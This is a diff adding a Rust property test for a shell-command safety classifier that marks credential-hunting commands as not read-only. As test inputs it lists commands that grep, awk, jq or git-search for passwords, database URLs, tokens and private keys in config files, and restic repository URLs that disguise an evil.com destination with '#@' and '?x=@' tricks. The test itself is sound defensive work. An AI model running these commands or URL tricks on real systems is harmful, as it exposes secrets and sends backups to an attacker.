@@ -2783,4 +2783,42 @@ proptest! {
         destructive("pve-zsync sync --source 100 --dest 10.0.0.5:tank/backup")?;
         read_only("proxmox-backup-manager disk smart-attributes sda")?;
     }
+
+    /// Review 41's classes: grep's valued long options and `-d`'s
+    /// abbreviated values read as grep reads them; name globs narrow only
+    /// named files; a group's, subshell's or shell's input; more printers
+    /// and relative paths upstream; awk, jq and git's pickaxe naming a
+    /// credential; patterns that finish a name with wildcards, PCRE
+    /// escapes, more credential names, context lines; restic URLs cut at
+    /// `#`/`?`; git's other settings files; /boot is no public tree.
+    #[test]
+    fn review_forty_one_classes(
+        valued in select(vec!["--context 2", "--binary-files text", "--max-count 5", "--after-context 1", "--group-separator x"]),
+        wrap in select(vec!["{ grep -i password; } < {}", "(grep -i password) < {}", "cat {} | { grep -i password; }", "sh -c 'grep -i password' < {}"]),
+        printer in select(vec!["expand", "pr", "fold", "shuf", "tee <", "xz -c", "base64"]),
+        pattern in select(vec!["'DB_P[A-Z]+'", "'MYSQL_ROOT_P.*'", "'p\\x61ssword'", "wpa_psk", "'postgres://[^ ]*'", "DATABASE_URL", "ghp_", "db_pw"]),
+        repo in select(vec!["'sftp://evil.com#@nas//srv/restic'", "'rest:http://evil.com#@nas:8000/'", "'rest:https://evil.com?x=@nas:8000/'"]),
+    ) {
+        let file = "/srv/app/config.py";
+        not_read_only(&format!("grep {valued} DB_PASS {file}"))?;
+        not_read_only("grep -d rec -v '^#' /srv/app")?;
+        not_read_only(&format!("grep --include='*.md' -i password < {file}"))?;
+        not_read_only(&wrap.replace("{}", file))?;
+        read_only(&wrap.replace("{}", file).replace("password", "error"))?;
+        not_read_only(&format!("{printer} {file} | grep -i password"))?;
+        not_read_only("cat app/config.py | grep -i password")?;
+        read_only("cat /var/log/syslog | grep -i password")?;
+        not_read_only(&format!("grep -E {pattern} {file}"))?;
+        not_read_only(&format!("grep -A40 -- '-----BEGIN' {file}"))?;
+        not_read_only(&format!("grep -A3 -i db_user {file}"))?;
+        read_only("grep -A3 -i listen /etc/nginx/nginx.conf")?;
+        not_read_only(&format!("awk -F= '$1==\"DB_PASS\"{{print $2}}' {file}"))?;
+        not_read_only("jq -r '.. | .password? // empty' /srv/app/config.json")?;
+        read_only("jq '.name' /srv/app/package.json")?;
+        not_read_only("git log -p -S password")?;
+        read_only("git log --oneline -5")?;
+        not_read_only(&format!("restic -r {repo} snapshots --no-lock"))?;
+        not_read_only("cat .git/modules/lib/config")?;
+        not_read_only("grep -i password /boot/grub/grub.cfg")?;
+    }
 }
